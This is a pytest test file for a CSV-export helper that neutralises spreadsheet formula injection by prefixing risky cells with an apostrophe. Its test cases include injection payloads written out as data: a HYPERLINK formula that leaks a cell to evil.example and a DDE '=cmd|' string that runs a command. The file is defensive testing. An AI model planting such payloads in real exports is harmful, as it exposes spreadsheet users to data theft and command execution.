"""core.csvsafe: cells that a spreadsheet would run as a formula are written as text (issue #13
item 8f); everything else is written exactly as csv writes it."""

from __future__ import annotations

import ast
import csv
import io
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import eapcase
from eapcase.core.csvsafe import FORMULA_STARTS, dict_writer, escape_formula, writer


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
        ),
        ("+44 7700 900123", "'+44 7700 900123"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Alex Jones", "Alex Jones"),
        (" =not a formula", " =not a formula"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_formula_starts_get_an_apostrophe(cell: str, written: str) -> None:
    out = io.StringIO()
    writer(out).writerow([cell])
    assert _read(out.getvalue()) == [[written]]


def test_numbers_dates_and_none_are_written_as_csv_writes_them() -> None:
    out, plain = io.StringIO(), io.StringIO()
    row = [-5, 1.5, date(2026, 3, 2), None, True]
    writer(out).writerow(row)
    csv.writer(plain).writerow(row)
    assert out.getvalue() == plain.getvalue() == "-5,1.5,2026-03-02,,True\r\n"


def test_the_dict_writer_escapes_the_header_and_the_values() -> None:
    out = io.StringIO()
    rows = dict_writer(out, ["name", "=x"])
    rows.writeheader()
    rows.writerow({"name": "=cmd|' /C calc'!A0", "=x": 3})
    assert _read(out.getvalue()) == [["name", "'=x"], ["'=cmd|' /C calc'!A0", "3"]]


@given(st.lists(st.text(), min_size=1, max_size=5))
def test_no_text_cell_is_read_back_starting_like_a_formula(row: list[str]) -> None:
    out = io.StringIO()
    writer(out).writerows([row])
    (read,) = _read(out.getvalue())
    assert len(read) == len(row)
    for original, cell in zip(row, read, strict=True):
        assert not cell.startswith(FORMULA_STARTS)
        assert cell in (original, "'" + original)


def test_escape_formula_leaves_non_text_alone() -> None:
    assert escape_formula(-1) == -1
    assert escape_formula(None) is None


def test_every_csv_writer_of_the_project_is_this_one() -> None:
    """A new export that calls csv.writer or csv.DictWriter itself fails here: use
    eapcase.core.csvsafe.writer / dict_writer."""
    source = Path(eapcase.__file__).parent
    found = []
    for path in sorted(source.rglob("*.py")):
        if path == source / "core" / "csvsafe.py":
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            calls_csv = (
                isinstance(node, ast.Attribute)
                and node.attr in {"writer", "DictWriter"}
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            )
            imports_csv = (
                isinstance(node, ast.ImportFrom)
                and node.module == "csv"
                and bool({a.name for a in node.names} & {"writer", "DictWriter"})
            )
            if calls_csv or imports_csv:
                found.append(f"{path.relative_to(source)}:{node.lineno}")
    assert found == []
